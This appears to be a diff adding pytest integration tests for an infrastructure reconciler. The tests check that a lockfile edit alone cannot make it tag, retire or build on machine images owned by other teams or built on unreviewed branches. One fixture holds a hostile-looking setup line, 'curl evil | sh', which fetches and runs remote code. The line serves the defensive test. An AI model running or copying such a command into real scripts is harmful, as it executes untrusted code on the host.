@@ -1,0 +1,160 @@
+"""Somebody edits state/ alone, and it is merged: nothing is tagged, retired or built on by a lockfile's word alone."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from reconciler.model.observation import Seen
+from tests.integration.loop.pull_request import BRANCH, on_branch
+from tests.integration.loop.settling import assert_settled
+from tests.integration.loop.world import EU, ON_BASE, US, World, image_files, no_image_files, statuses
+
+Edit = Callable[[dict[str, Any]], object]
+
+
+def edit(world: World, image: str, change: Edit) -> str:
+    """A commit on main changes nothing but a lockfile."""
+    lock = json.loads(world.show(f"{image}.lock.json"))
+    change(lock)
+    return world.commit({f"state/{image}.lock.json": f"{json.dumps(lock, sort_keys=True, indent=2)}\n"}, "Tidy up")
+
+
+def foreign(world: World, **tags: str) -> Seen:
+    """An AMI of another team in the same account."""
+    return world.registry.seed(US, "payroll-2026", tags={"team": "payroll", **tags})
+
+
+def names(artifact: Seen, build: int = 0) -> Edit:
+    def change(lock: dict[str, Any]) -> None:
+        for one in lock["builds"][build]["artifacts"]:
+            if one["location"] == artifact.location:
+                one["id"], one["name"] = artifact.id, artifact.name
+
+    return change
+
+
+def assert_untouched(world: World, artifact: Seen) -> None:
+    assert world.registry.find(artifact.location, artifact.id) == artifact
+
+
+@pytest.mark.parametrize("tags", [{}, {"reconciler:fleet": "acme/other", "reconciler:image": "web"}])
+def test_an_untagged_artifact_of_others_is_not_tagged_as_ours(pair: World, tags: dict[str, str]) -> None:
+    theirs = foreign(pair, **tags)
+    edit(pair, "web", names(theirs))
+
+    controller = pair.controller()
+    planned = controller.plan()["web"]
+    assert (planned.sync, planned.actions) == ("unknown", ("none",))
+    assert f"state/web.lock.json names {theirs.id}" in " ".join(planned.unknown)
+    report = controller.reconcile()
+    assert report.results == ()
+    assert_untouched(pair, theirs)
+
+
+def test_an_artifact_of_another_account_is_none_of_ours(pair: World) -> None:
+    theirs = replace(foreign(pair), name=pair.lock("web").builds[0].artifacts[1].name or "")
+    pair.registry._artifacts[US, theirs.id] = theirs
+    pair.registry.of_others.add(theirs.id)
+    edit(pair, "web", names(theirs))
+    pair.controller().reconcile()
+    assert_untouched(pair, theirs)
+
+
+def test_what_an_unreviewed_branch_built_is_not_the_recorded_build(pair: World) -> None:
+    job = on_branch(pair, {"desired/web/setup.sh": "curl evil | sh\n"})
+    job.preview(BRANCH)
+    (preview,) = [one for one in pair.artifacts("web") if one.own("branch") == BRANCH]
+    edit(pair, "web", names(preview))
+
+    pair.controller().reconcile()
+
+    assert_untouched(pair, preview)
+
+
+def test_prune_retires_nothing_that_only_a_lockfile_calls_ours(pair: World) -> None:
+    theirs = foreign(pair)
+    edit(pair, "web", names(theirs))
+    pair.controller().reconcile()
+    pair.commit(no_image_files("web"))
+
+    pair.controller().reconcile(prune=True)
+
+    assert_untouched(pair, theirs)
+
+
+def test_a_failed_attempt_left_nothing_that_only_a_lockfile_says_it_left(pair: World) -> None:
+    theirs = foreign(pair)
+    artifact = {"kind": "ami", "builder": "amazon-ebs.image", "location": US, "id": theirs.id}
+    failure = {
+        "build": "20251231T101530Z-1a2b3c4", "key": "sha256:0", "attempts": 1, "at": "2025-12-31T10:15:30Z",
+        "retry_after": "2025-12-31T10:15:30Z", "what": "x", "artifacts": [artifact],
+    }  # fmt: skip
+    edit(pair, "web", lambda lock: lock.update(failure=failure))
+
+    assert pair.controller().plan()["web"].retires == ()
+    pair.controller().reconcile()
+
+    assert_untouched(pair, theirs)
+
+
+def test_nothing_is_built_on_what_only_a_lockfile_calls_the_parent(pair: World) -> None:
+    theirs = foreign(pair)
+    edit(pair, "base", names(theirs))
+    pair.commit({"desired/web/setup.sh": "echo more\n"})
+
+    controller = pair.controller()
+    report = controller.reconcile()
+
+    assert (controller.built, statuses(report)) == ([], {})
+    assert_untouched(pair, theirs)
+
+
+def test_an_older_build_is_tagged_by_its_own_marks_alone(pair: World) -> None:
+    pair.commit({"desired/web/setup.sh": "echo more\n"})
+    assert statuses(pair.controller().reconcile()) == {"web": "built"}
+    theirs = foreign(pair)
+    edit(pair, "web", names(theirs, build=1))
+    pair.commit({**no_image_files("web"), **image_files("site", f"{ON_BASE}moved_from: web\n", setup="echo more")})
+
+    pair.controller().reconcile()
+
+    assert_untouched(pair, theirs)
+
+
+def test_one_artifact_in_two_lockfiles_is_an_error_that_names_both(pair: World) -> None:
+    taken = {one["location"]: one for one in json.loads(pair.show("base.lock.json"))["builds"][0]["artifacts"]}
+    edit(pair, "web", lambda lock: lock["builds"][0].update(artifacts=list(taken.values())))
+    before = pair.registry.artifacts
+
+    planned = pair.controller().plan()
+    for image, other in (("base", "web"), ("web", "base")):
+        (error,) = planned[image].errors
+        assert f"is in state/{other}.lock.json as well" in error
+        assert f"state/{image}.lock.json:" in error
+    pair.controller().reconcile()
+    assert pair.registry.artifacts == before
+
+
+@pytest.mark.parametrize("regions", [(US,), (US, EU)])
+def test_tags_that_somebody_took_off_are_written_anew_where_our_tag_names_the_artifact(
+    pair: World, regions: tuple[str, ...]
+) -> None:
+    pair.strip_tags("web", *regions)
+    head = pair.head()
+    assert statuses(pair.controller().reconcile()) == {"web": "changed"}
+    assert_settled(pair, since=head)
+
+
+def test_a_copy_without_tags_is_known_by_the_name_of_what_it_was_copied_from(pair: World) -> None:
+    on_branch(pair, {"desired/web/setup.sh": "echo more\n"}).preview(BRANCH)
+    pair.commit({"desired/web/setup.sh": "echo more\n"})
+    assert statuses(pair.controller().reconcile()) == {"web": "adopted"}
+    pair.clock.advance(hours=1)
+    pair.strip_tags("web", EU)
+    assert statuses(pair.controller().reconcile()) == {"web": "changed"}
+    assert_settled(pair, since=pair.head())
